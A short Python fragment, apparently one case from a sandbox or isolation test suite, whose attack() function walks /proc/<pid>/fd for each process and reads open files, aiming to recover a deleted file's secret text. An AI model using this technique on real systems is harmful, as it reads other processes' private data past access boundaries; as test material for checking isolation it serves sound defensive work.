"""011 files: read a deleted file through the descriptors of another process.

Evidence: secret - the text of that file.
"""


def attack():
    def read(pid):
        texts = []
        for name in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{name}"
            try:
                with open(path, errors="replace") if os.path.isfile(path) else open(os.devnull) as stream:
                    texts.append(stream.read(200))
            except OSError:
                continue
        return texts

    return each_pid(read)
